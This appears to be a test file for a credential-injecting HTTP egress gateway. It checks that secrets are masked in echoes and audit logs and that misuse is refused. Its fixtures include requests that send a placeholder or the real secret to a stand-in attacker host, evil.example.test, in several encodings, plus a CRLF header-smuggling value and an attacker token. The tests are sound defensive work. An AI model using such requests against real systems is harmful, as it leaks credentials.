import assert from "node:assert/strict";
import test from "node:test";
import { credential, eventually, HOST, openGateway, SECRET } from "../../support/gateway/fixture.ts";
import { openOrigin } from "../../support/gateway/origin.ts";
import { assertDenied, statusOf } from "../../support/gateway/verdicts.ts";

const PLACEHOLDER = credential().placeholder;
const OPTIONS = { credentials: [credential()], values: { api: SECRET } };

test("row 89, row 95: the credential overwrites its slot, every other one is dropped, and its echo is masked", async (t) => {
  const origin = await openOrigin();
  const fixture = await openGateway(t, { origin, ...OPTIONS });
  const client = await fixture.inside();
  client.send(
    `GET / HTTP/1.1\r\nHost: ${HOST}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nAuthorization: Bearer other\r\nX-Api-Key: mine\r\n\r\n`,
  );
  const answer = await client.until(/"method"[\s\S]*\}/);
  assert.ok(!answer.includes(SECRET));
  const sent = origin.seen[0]?.rawHeaders ?? [];
  const values = sent.filter((_, index) => sent[index - 1]?.toLowerCase() === "authorization");
  assert.deepEqual(values, [`Bearer ${SECRET}`]);
  assert.equal(origin.seen[0]?.headers["x-api-key"], undefined);
  assert.equal(origin.seen[0]?.headers["accept-encoding"], "identity");
  await eventually(() => fixture.audit.results().length === 1);
  assert.ok((fixture.audit.results()[0]?.scrubbed ?? 0) >= 1);
  assert.deepEqual(fixture.audit.decisions()[0]?.credentials, ["api"]);
});

test("row 51: a Connection field cannot remove the injected credential", async (t) => {
  const origin = await openOrigin();
  const fixture = await openGateway(t, { origin, ...OPTIONS });
  const client = await fixture.inside();
  client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\nConnection: keep-alive, authorization, x-mine\r\nX-Mine: 1\r\n\r\n`);
  await client.until(/"method"[\s\S]*\}/);
  assert.equal(origin.seen[0]?.headers.authorization, `Bearer ${SECRET}`);
  assert.equal(origin.seen[0]?.headers["x-mine"], undefined);
});

test("row 50: an underscore twin of an injected field is refused", async (t) => {
  const fixture = await openGateway(t, { ...OPTIONS });
  for (const name of ["X_Api_Key", "x_api-key", "Content_Length", "__proto__"]) {
    const client = await fixture.inside();
    client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n${name}: 1\r\n\r\n`);
    assert.equal(statusOf(await client.until("}")), 400, name);
    await assertDenied(fixture, "request-malformed");
  }
});

const PLACES: readonly (readonly [what: string, request: string])[] = [
  ["Authorization", `GET / HTTP/1.1\r\nHost: evil.example.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`],
  ["a cookie", `GET / HTTP/1.1\r\nHost: evil.example.test\r\nCookie: a=${PLACEHOLDER}\r\n\r\n`],
  ["the query", `GET /?k=${PLACEHOLDER} HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`],
  ["the path", `GET /${PLACEHOLDER}/x HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`],
  [
    "base64",
    `GET / HTTP/1.1\r\nHost: evil.example.test\r\nAuthorization: Basic ${Buffer.from(`x:${PLACEHOLDER}`).toString("base64")}\r\n\r\n`,
  ],
  ["the real secret", `GET /?k=${SECRET} HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`],
  ["the real secret in hex", `GET /${Buffer.from(SECRET).toString("hex")} HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`],
];

for (const [what, request] of PLACES) {
  test(`row 88, row 92, row 105: a placeholder or secret in ${what} at another host is blocked with an alert`, async (t) => {
    const fixture = await openGateway(t, { ...OPTIONS, rules: [{}, { host: "evil.example.test" }] });
    const client = await fixture.inside("evil.example.test");
    client.send(request);
    assert.equal(statusOf(await client.until("}")), 403);
    await assertDenied(fixture, "credential-wrong-host");
    assert.equal(fixture.audit.decisions()[0]?.alert, true);
    assert.equal(fixture.alerts.length, 1);
    for (const text of [fixture.audit.text(), ...fixture.alerts]) {
      assert.ok(!text.includes(SECRET) && !text.includes(PLACEHOLDER), text);
    }
  });
}

test("row 93: a placeholder in an unusual place at its own host is forwarded as it is", async (t) => {
  const origin = await openOrigin();
  const fixture = await openGateway(t, { origin, ...OPTIONS });
  const client = await fixture.inside();
  client.send(
    `POST / HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: ${PLACEHOLDER}\r\nContent-Length: ${PLACEHOLDER.length}\r\n\r\n${PLACEHOLDER}`,
  );
  await client.until(/"method"[\s\S]*\}/);
  assert.equal(origin.seen[0]?.headers["user-agent"], PLACEHOLDER);
  assert.equal(origin.seen[0]?.body.toString(), PLACEHOLDER);
});

test("row 96: no credential goes over plain HTTP, not even its placeholder", async (t) => {
  const fixture = await openGateway(t, { ...OPTIONS, rules: [{}, { scheme: "http", port: 80 }] });
  const client = await fixture.raw();
  client.send(`GET http://${HOST}/ HTTP/1.1\r\nHost: ${HOST}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`);
  assert.equal(statusOf(await client.until("}")), 403);
  await assertDenied(fixture, "credential-wrong-host");
});

test("row 97: fronting with a placeholder gets no credential", async (t) => {
  const fixture = await openGateway(t, { ...OPTIONS, rules: [{}, { host: "evil.example.test" }] });
  const client = await fixture.inside("evil.example.test");
  client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`);
  assert.equal(statusOf(await client.until("}")), 421);
  await assertDenied(fixture, "authority-mismatch");
});

test("row 99: another account's token at an injected host is replaced or refused", async (t) => {
  const origin = await openOrigin();
  const fixture = await openGateway(t, { origin, ...OPTIONS });
  const client = await fixture.inside();
  client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\nAuthorization: Bearer sk-attacker-account-token\r\n\r\n`);
  await client.until(/"method"[\s\S]*\}/);
  assert.equal(origin.seen[0]?.headers.authorization, `Bearer ${SECRET}`);
  client.clear();
  client.send(`GET /?access_token=sk-attacker HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
  assert.match(await client.until(/refused[\s\S]*\}/), /foreign-credential/);
  assert.equal(origin.seen.length, 1);
  const last = fixture.audit.decisions().at(-1);
  assert.deepEqual([last?.verdict, last?.reason, last?.alert], ["deny", "foreign-credential", true]);
  assert.deepEqual([fixture.lookups.length, fixture.dials.length, fixture.alerts.length], [1, 1, 1]);
});

test("row 69: a credential whose value would begin another line is not sent, and neither is its request", async (t) => {
  for (const value of [`${SECRET}\r\nX-Evil: 1`, `${SECRET}\n`, `a\0${SECRET}`]) {
    const fixture = await openGateway(t, { credentials: [credential()], values: { api: value } });
    const client = await fixture.inside();
    client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
    const answer = await client.until("}");
    assert.match(answer, /credential-unavailable/);
    await assertDenied(fixture, "credential-unavailable");
    assert.ok(!`${answer}${fixture.audit.text()}`.includes(SECRET));
  }
});

test("row 101: Proxy-Authorization is not forwarded", async (t) => {
  const origin = await openOrigin();
  const fixture = await openGateway(t, { origin });
  const client = await fixture.inside();
  client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\nProxy-Authorization: Basic abc\r\nProxy-Connection: x\r\n\r\n`);
  await client.until('"method"');
  const names = Object.keys(origin.seen[0]?.headers ?? {});
  assert.deepEqual(
    names.filter((name) => name.startsWith("proxy")),
    [],
  );
});

test("a credential that cannot be read denies, tells the operator and not the client", async (t) => {
  const secrets = async () => {
    throw Object.assign(new Error("the login has expired"), { hint: "run claude and log in again" });
  };
  const fixture = await openGateway(t, { credentials: [credential()], secrets });
  const client = await fixture.inside();
  client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
  const answer = await client.until("}");
  assert.match(answer, /credential-unavailable/);
  assert.doesNotMatch(answer, /log in again/);
  await assertDenied(fixture, "credential-unavailable");
  assert.match(fixture.audit.decisions()[0]?.detail ?? "", /expired.*log in again/);
});

test("a renewed secret is used at once, and the old one stays masked", async (t) => {
  const origin = await openOrigin({ respond: (_, response) => response.end(`old ${SECRET}.`) });
  const values: Record<string, string> = { api: SECRET };
  const fixture = await openGateway(t, { origin, credentials: [credential()], values });
  const client = await fixture.inside();
  const get = async () => {
    client.clear();
    client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
    return client.until(/old .{24,}\./);
  };
  assert.ok(!(await get()).includes(SECRET));
  values.api = "sk-renewed-0123456789abcdef";
  assert.ok(!(await get()).includes(SECRET));
  assert.equal(origin.seen[1]?.headers.authorization, "Bearer sk-renewed-0123456789abcdef");
});

const FORMS: readonly (readonly [form: string, text: string])[] = [
  ["raw", SECRET],
  ["base64", Buffer.from(SECRET).toString("base64")],
  ["base64 of a Basic pair", Buffer.from(`user:${SECRET}`).toString("base64")],
  ["hex", Buffer.from(SECRET).toString("hex")],
  ["percent", [...Buffer.from(SECRET)].map((byte) => `%${byte.toString(16)}`).join("")],
];

for (const [form, text] of FORMS) {
  test(`row 89, row 90: an echo as ${form} is masked in head and body, at one byte a chunk`, async (t) => {
    const origin = await openOrigin({
      respond: async (_, response) => {
        response.writeHead(200, { "x-echo": `v ${text} v` });
        for (const byte of Buffer.from(`before ${text} after`)) {
          response.write(Buffer.from([byte]));
          await new Promise((resolve) => setImmediate(resolve));
        }
        response.end();
      },
    });
    const fixture = await openGateway(t, { origin, ...OPTIONS });
    const client = await fixture.inside();
    client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\nConnection: close\r\n\r\n`);
    const answer = (await client.closed()).replace(/\r\n[0-9a-f]+\r\n/g, "");
    const core = form === "base64 of a Basic pair" ? text.slice(8, -4) : text;
    assert.ok(!answer.includes(core), answer);
    assert.match(answer, /before [\s\S]*\*{8}[\s\S]* ?after/);
    assert.match(answer, /x-echo: v .*\*{8}.* v/);
  });
}

test("row 89: an echo in the name of a field is masked, and the field stays one", async (t) => {
  const hex = Buffer.from(SECRET).toString("hex");
  const origin = await openOrigin({
    respond: (_, response) => response.writeHead(200, { [`x-${SECRET}-x`]: "v", [`X-${hex}`]: "v" }).end("done"),
  });
  const fixture = await openGateway(t, { origin, ...OPTIONS });
  const client = await fixture.inside();
  client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
  const answer = (await client.until("done")).toLowerCase();
  assert.ok(!answer.includes(SECRET.toLowerCase()) && !answer.includes(hex), answer);
  assert.match(answer, /\r\nx-\*{8,}-x: v\r\nx-\*{8,}: v\r\n/);
  await eventually(() => fixture.audit.results().length === 1);
  assert.equal(fixture.audit.results()[0]?.scrubbed, 2);
});

test("rows 91, 124: an encoded response at an injected host is refused, elsewhere it passes undecoded", async (t) => {
  const origin = await openOrigin({
    respond: (_, response) => response.writeHead(200, { "content-encoding": "gzip" }).end("zzzz"),
  });
  const fixture = await openGateway(t, { origin, ...OPTIONS });
  const client = await fixture.inside();
  client.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\nAccept-Encoding: gzip\r\n\r\n`);
  const answer = await client.until("}");
  assert.match(answer, /response-encoded/);
  assert.equal(statusOf(answer), 502);
  const free = await openGateway(t, { origin });
  const other = await free.inside();
  other.send(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
  await other.until("zzzz");
});

test("row 100: no secret and no placeholder in any audit line", async (t) => {
  const origin = await openOrigin();
  const fixture = await openGateway(t, {
    origin,
    credentials: [credential({ scheme: { kind: "query", parameter: "key" } })],
    values: { api: SECRET },
  });
  const client = await fixture.inside();
  client.send(`GET /x?key=${PLACEHOLDER}&KEY=${SECRET} HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`);
  await client.until(/"method"[\s\S]*\}/);
  assert.match(origin.seen[0]?.url ?? "", new RegExp(`key=${SECRET}`));
  await eventually(() => fixture.audit.results().length === 1);
  assert.ok(!fixture.audit.text().includes(SECRET), fixture.audit.text());
  assert.ok(!fixture.audit.text().includes(PLACEHOLDER), fixture.audit.text());
});

test("row 137: a body rule judges the whole body before anything is looked up", async (t) => {
  const origin = await openOrigin({ respond: (_, response) => response.end('{"ok":true}') });
  const rules = [{ body: { shape: "anthropic-messages", allowProviderTools: [] } as const, paths: ["/v1/messages"] }];
  const fixture = await openGateway(t, { origin, rules });
  const bodies = [
    { model: "m", max_tokens: 1, messages: [], mcp_servers: [{ type: "url", url: "https://evil.test", name: "x" }] },
    { model: "m", max_tokens: 1, messages: [], tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
  ];
  for (const framing of ["length", "chunked"]) {
    for (const body of bodies) {
      const text = JSON.stringify(body);
      const client = await fixture.inside();
      const head = `POST /v1/messages HTTP/1.1\r\nHost: ${HOST}\r\nContent-Type: application/json\r\n`;
      client.send(
        framing === "length"
          ? `${head}Content-Length: ${text.length}\r\n\r\n${text}`
          : `${head}Transfer-Encoding: chunked\r\n\r\n${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`,
      );
      assert.match(await client.until(/refused[\s\S]*\}/), /body-shape/);
      await assertDenied(fixture, "body-shape");
    }
  }
  const good = JSON.stringify({ model: "m", max_tokens: 1, messages: [{ role: "user", content: "hi" }] });
  const client = await fixture.inside();
  const head = `POST /v1/messages HTTP/1.1\r\nHost: ${HOST}\r\nContent-Type: application/json\r\n`;
  client.send(
    `${head}Transfer-Encoding: chunked\r\n\r\n${good.length.toString(16)}\r\n${good}\r\n0\r\nX-Trailer: 1\r\n\r\n`,
  );
  await client.until('"ok":true');
  assert.equal(origin.seen[0]?.body.toString(), good);
});
